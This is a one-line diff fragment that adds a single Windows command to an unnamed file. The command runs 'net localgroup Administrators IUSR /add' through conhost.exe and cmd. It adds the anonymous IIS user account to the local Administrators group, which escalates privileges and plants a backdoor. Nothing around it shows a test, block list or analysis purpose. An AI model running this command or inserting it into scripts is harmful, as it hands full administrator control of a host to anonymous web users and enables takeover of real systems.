@@ -1,0 +1,1 @@
+conhost.exe cmd /c net localgroup Administrators IUSR /add
